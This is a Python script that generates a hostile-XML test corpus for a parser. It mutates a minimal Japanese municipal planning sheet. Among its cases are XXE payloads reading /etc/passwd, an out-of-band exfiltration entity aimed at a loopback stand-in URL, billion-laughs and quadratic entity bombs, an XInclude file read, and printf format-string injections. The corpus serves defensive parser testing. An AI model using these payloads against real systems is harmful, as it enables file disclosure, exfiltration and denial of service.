#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Writes the small files of the hostile-file corpus (tests/hostile/*.xml)
from tests/data/valid/minimal.xml. The files are committed; run this again
only to change them. The huge ones (a 50 MB text node, 100,000-deep nesting)
and those naming a path or port known only at test time are made by
test-hostile itself, in the build folder. MANIFEST lists every case with
its expected exit status and a piece of its one-line reason."""
import os
import sys

here = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(here, "..", "data", "valid", "minimal.xml"), encoding="utf-8") as f:
    MINIMAL = f.read()

DECL = '<?xml version="1.0" encoding="UTF-8"?>\n'
BODY = MINIMAL[len(DECL):]
assert MINIMAL.startswith(DECL)


def sub(old, new, text=MINIMAL, count=1):
    assert old in text, old
    return text.replace(old, new, count)


def with_doctype(doctype, body=BODY):
    return DECL + doctype + "\n" + body


files = {}

# Entities pointing out of the file, and entity bombs: all stop at the DOCTYPE.
files["xxe-passwd.xml"] = with_doctype(
    '<!DOCTYPE sheet [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>',
    sub("<municipality>伊勢崎市</municipality>", "<municipality>&x;</municipality>", BODY))
files["xxe-secret-relative.xml"] = with_doctype(
    '<!DOCTYPE sheet [ <!ENTITY x SYSTEM "secret.txt"> ]>',
    sub("<title>第2期", "<title>&x;第2期", BODY))
files["xxe-url.xml"] = with_doctype(
    '<!DOCTYPE sheet [ <!ENTITY x SYSTEM "http://127.0.0.1:9/secret"> ]>',
    sub("<label>資料2</label>", "<label>&x;</label>", BODY))
files["xxe-parameter-entity.xml"] = with_doctype(
    '<!DOCTYPE sheet [ <!ENTITY % p SYSTEM "file:///etc/passwd"> %p; ]>')
files["xxe-oob-exfiltration.xml"] = with_doctype(
    '<!DOCTYPE sheet [ <!ENTITY % f SYSTEM "file:///etc/hostname">\n'
    ' <!ENTITY % d "<!ENTITY &#x25; e SYSTEM \'http://127.0.0.1:9/?%f;\'>"> %d; %e; ]>')
files["doctype-external-subset.xml"] = with_doctype('<!DOCTYPE sheet SYSTEM "file:///etc/passwd">')
files["doctype-public-url.xml"] = with_doctype(
    '<!DOCTYPE sheet PUBLIC "-//Kensho//EN" "http://127.0.0.1:9/sheet.dtd">')
files["doctype-empty.xml"] = with_doctype("<!DOCTYPE sheet>")
lol = ['<!ENTITY lol0 "lol">'] + [
    '<!ENTITY lol%d "%s">' % (i, ("&lol%d;" % (i - 1)) * 10) for i in range(1, 10)]
files["billion-laughs.xml"] = with_doctype(
    "<!DOCTYPE sheet [\n " + "\n ".join(lol) + "\n]>",
    sub("<municipality>伊勢崎市</municipality>", "<municipality>&lol9;</municipality>", BODY))
files["quadratic-blowup.xml"] = with_doctype(
    '<!DOCTYPE sheet [ <!ENTITY a "' + "a" * 20000 + '"> ]>',
    sub("<notes>令和4年度", "<notes>" + "&a;" * 20000 + "令和4年度", BODY))
files["undeclared-entity.xml"] = sub("<municipality>伊勢崎市", "<municipality>&passwd;伊勢崎市")
files["xinclude.xml"] = sub(
    "<municipality>伊勢崎市</municipality>",
    '<municipality><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
    'href="file:///etc/passwd" parse="text"/></municipality>')
files["stylesheet-pi.xml"] = sub(DECL, DECL + '<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?>\n')

# Bytes that are not the text they claim to be.
files["invalid-utf8-overlong.xml"] = sub("伊勢崎市</municipality>", "伊勢崎\udcc0\udcaf市</municipality>")
files["invalid-utf8-surrogate.xml"] = sub("伊勢崎市</municipality>", "伊勢崎\udced\udca0\udc80市</municipality>")
files["invalid-utf8-truncated-char.xml"] = sub("<label>資料2</label>", "<label>資\udce6\udc96</label>")
files["nul-in-text.xml"] = sub("伊勢崎市</municipality>", "伊勢崎\x00市</municipality>")
files["control-char-reference.xml"] = sub("伊勢崎市</municipality>", "伊勢崎&#1;市</municipality>")
files["utf16-declared-utf8-content.xml"] = sub('encoding="UTF-8"', 'encoding="UTF-16"')
files["unknown-encoding.xml"] = sub('encoding="UTF-8"', 'encoding="X-KENSHO-NONE"')
files["utf8-bom.xml"] = "\ufeff" + MINIMAL

# Windows characters under the label Shift_JIS (Windows-31J, as browsers read it).
files["shift-jis-windows.xml"] = sub("<activities>", "<activities>①～㈱№Ⅲ髙", sub('encoding="UTF-8"', 'encoding="Shift_JIS"'))
files["shift-jis-invalid-bytes.xml"] = sub("<activities>", "<activities>\udc87\udcff", sub('encoding="UTF-8"', 'encoding="Shift_JIS"'))
# Noncharacters: XML allows them, cairo does not.
files["noncharacter-fdd0.xml"] = sub("<activities>", "<activities>\ufdd0")
files["noncharacter-10ffff-reference.xml"] = sub('note="', 'note="&#x10FFFF;')

# Truncated, empty, and not a sheet at all.
files["truncated-half.xml"] = MINIMAL[: len(MINIMAL) // 2]
files["truncated-in-tag.xml"] = MINIMAL[: MINIMAL.index("<series>") + 4]
files["cut-inside-character.xml"] = MINIMAL[: MINIMAL.index("崎市</municipality>")] + "\udce5"
files["empty.xml"] = ""
files["whitespace-only.xml"] = " \n\t\n"
files["bom-only.xml"] = "\ufeff"
files["other-namespace.xml"] = sub('xmlns="urn:x-kensho:sheet"', 'xmlns="urn:x-other:sheet"')
files["no-namespace.xml"] = sub(' xmlns="urn:x-kensho:sheet"', "")
files["html.xml"] = "<!-- not a sheet -->\n<html><body><p>伊勢崎市</p></body></html>\n"
files["newer-version.xml"] = sub('version="1.0">', 'version="2.0">')
files["version-999.xml"] = sub('version="1.0">', 'version="999.999">')
files["version-missing.xml"] = sub(' version="1.0">', ">")
files["version-1000.xml"] = sub('version="1.0">', 'version="1000.0">')
files["version-negative.xml"] = sub('version="1.0">', 'version="-1.0">')
files["namespace-upper-case.xml"] = sub('xmlns="urn:x-kensho:sheet"', 'xmlns="URN:X-KENSHO:SHEET"')
files["version-overflow.xml"] = sub('version="1.0">', 'version="99999999999999999999.0">')

# Against the schema.
files["schema-unknown-element.xml"] = sub("<label>資料2</label>", "<label>資料2</label><script>alert(1)</script>")
files["schema-bad-kind.xml"] = sub('kind="target"', 'kind="bogus"')
files["schema-fiscal-year-text.xml"] = sub("<fiscal-year>2023</fiscal-year>", "<fiscal-year>令和5</fiscal-year>")
files["schema-bad-colour.xml"] = sub('colour="#2E7D32"', 'colour="red"')
files["schema-long-identifier.xml"] = sub('id="i1"', 'id="i' + "x" * 5000 + '"')
files["schema-value-num-and-text.xml"] = sub('<baseline num="1563"', '<baseline num="1563" text="なし"')

# Many attributes on one element (libxml2 2.9 compares each with all before it).
files["attributes-33.xml"] = sub('id="g1"', " ".join('a%d="%d"' % (i, i) for i in range(33)) + ' id="g1"')
# Namespaces in scope (libxml2 2.9 looks each prefix up through all of them).
files["namespaces-nested-33.xml"] = sub(
    "</goal>", "</goal>\n  " + "".join('<x xmlns:n%d="urn:x-%d">' % (i, i) for i in range(33)) + "</x>" * 33)

# Texts longer than the schema allows.
files["long-note.xml"] = sub('note="※変更後"', 'note="' + "注" * 1001 + '"')

# Numbers.
for name, number in [("num-1e309", "1e309"), ("num-nan", "NaN"), ("num-infinity", "-Infinity"),
                     ("num-negative-zero", "-0"), ("num-20-digits", "12345678901234567890"),
                     ("num-20-fraction-digits", "0.12345678901234567890"), ("num-hex", "0x1F")]:
    files[name + ".xml"] = sub('<actual fy="2022" num="1486"', '<actual fy="2022" num="%s"' % number)

# Numbers as a person types them, which files do not hold.
for name, number in [("num-full-width", "１４８６"), ("num-grouped", "1,486"), ("num-leading-space", " 1486")]:
    files[name + ".xml"] = sub('<actual fy="2022" num="1486"', '<actual fy="2022" num="%s"' % number)

# Years and eras.
files["era-year-huge.xml"] = sub('period="令和9年度"', 'period="令和99999999999999999999年度"')
files["era-year-zero.xml"] = sub('period="令和9年度"', 'period="平成0年度"')
files["era-before-meiji.xml"] = sub('period="令和9年度"', 'period="慶応3年"')
files["fiscal-year-1899.xml"] = sub('<actual fy="2022"', '<actual fy="1899"')
files["fiscal-year-2201.xml"] = sub("<fiscal-year>2023</fiscal-year>", "<fiscal-year>2201</fiscal-year>")
files["fiscal-year-overflow.xml"] = sub('<plan first="2020"', '<plan first="99999999999999999999"')

# Years, percentages and booleans as the schema's datatypes read them, not as Kensho writes them.
files["fiscal-year-plus.xml"] = sub("<fiscal-year>2023</fiscal-year>", "<fiscal-year>+2023</fiscal-year>")
files["fiscal-year-leading-zero.xml"] = sub('<actual fy="2022"', '<actual fy="02022"')
files["fiscal-year-line-breaks.xml"] = sub("<fiscal-year>2023</fiscal-year>", "<fiscal-year>\n2023\n</fiscal-year>")
files["percent-spaces.xml"] = sub('<rating id="on-track"', '<rating id="on-track" at-least=" 80"')
files["delayed-spaces.xml"] = sub('delayed="true"', 'delayed=" true "')
files["num-line-break-reference.xml"] = sub('<actual fy="2022" num="1486"', '<actual fy="2022" num="14&#10;86"')

# Identifiers.
files["duplicate-id-goal-indicator.xml"] = sub('id="i1"', 'id="g1"')
files["duplicate-id-measure.xml"] = sub('<measure id="m1-1-1"', '<measure id="g1-1"')
files["duplicate-rating.xml"] = sub('<rating id="mostly-on-track"', '<rating id="on-track"')
files["duplicate-year.xml"] = sub("</year>", '</year>\n        <year fy="2023"/>')

# printf patterns everywhere a text goes: loaded and shown as written.
fmt = "%s%n%x%p%99999999d%%%c%ls"
printf = MINIMAL
for old in ["伊勢崎市</municipality>", "第2期伊勢崎市まち・ひと", "資料2</label>", "<notes>令和4年度",
            ">順調に進捗", "伊勢崎市 3段階", "<division>商工労働課</division>\n  </divisions>",
            "しごとの創生", "<name>新規求人数", "<unit>件", "<division>商工労働課</division>\n        <series>",
            'unit="件"/>\n          <actual', 'period="令和9年度" note="※変更後', "セミナー等", "ニーズ",
            "引き続き", 'title="地域産業', 'code="①"']:
    assert old in printf, old
printf = printf.replace("伊勢崎市</municipality>", fmt + "</municipality>", 1)
printf = printf.replace("第2期伊勢崎市まち・ひと", fmt + "第2期", 1)
printf = printf.replace("資料2</label>", fmt + "</label>", 1)
printf = printf.replace("<notes>令和4年度", "<notes>" + fmt, 1)
printf = printf.replace(">順調に進捗", ">" + fmt, 1)
printf = printf.replace("伊勢崎市 3段階", fmt, 1)
printf = printf.replace("<division>商工労働課</division>\n  </divisions>", "<division>" + fmt + "</division>\n  </divisions>", 1)
printf = printf.replace('title="しごとの創生"', 'title="' + fmt + '"', 1)
printf = printf.replace("<name>新規求人数", "<name>" + fmt, 1)
printf = printf.replace("<unit>件", "<unit>" + fmt, 1)
printf = printf.replace("<division>商工労働課</division>\n        <series>", "<division>" + fmt + "</division>\n        <series>\n", 1)
printf = printf.replace("<series>\n\n", '<series name="' + fmt + '">\n', 1)
printf = printf.replace('<baseline num="1563" unit="件"/>', '<baseline text="' + fmt + '" unit="' + fmt + '" period="令和元年度" note="' + fmt + '"/>', 1)
printf = printf.replace("セミナー等", fmt, 1)
printf = printf.replace("ニーズ", fmt, 1)
printf = printf.replace("引き続き", fmt, 1)
printf = printf.replace('code="①" title="地域産業の活性化、付加価値の向上"', 'code="' + fmt + '" title="' + fmt + '"', 1)
printf = printf.replace("<delay-reason>", "<delay-reason>" + fmt, 1)
printf = printf.replace("</rating>\n        </year>", "</rating>\n          <delay-reason>" + fmt + "</delay-reason>\n        </year>", 1)
files["printf-everywhere.xml"] = printf
files["printf-in-reason.xml"] = sub('<actual fy="2022" num="1486"', '<actual fy="2022" num="%s%n"',
                                    sub("<name>新規求人数", "<name>%s%n%x"))
files["printf-in-period.xml"] = sub('period="令和9年度"', 'period="%s%n年度"')

for name, text in files.items():
    data = text.encode("cp932" if 'encoding="Shift_JIS"' in text else "utf-8", "surrogateescape")
    with open(os.path.join(here, name), "wb") as f:
        f.write(data)
# UTF-16 with a byte-order mark: libxml2 reads it, and so does Kensho.
with open(os.path.join(here, "utf16le-bom.xml"), "wb") as f:
    f.write(MINIMAL.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"))
with open(os.path.join(here, "utf16be-bom.xml"), "wb") as f:
    f.write(b"\xfe\xff" + MINIMAL.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16-be"))
with open(os.path.join(here, "utf16-no-declaration-utf8.xml"), "wb") as f:
    f.write(b"\xff\xfe" + MINIMAL.encode("utf-8"))
with open(os.path.join(here, "nul-bytes-only.xml"), "wb") as f:
    f.write(b"\x00" * 4096)
# NUL padding after the end, as a disk or a copy program may leave.
with open(os.path.join(here, "nul-after-end.xml"), "wb") as f:
    f.write(MINIMAL.encode("utf-8") + b"\x00" * 512)
print(len(files) + 5, "files", file=sys.stderr)
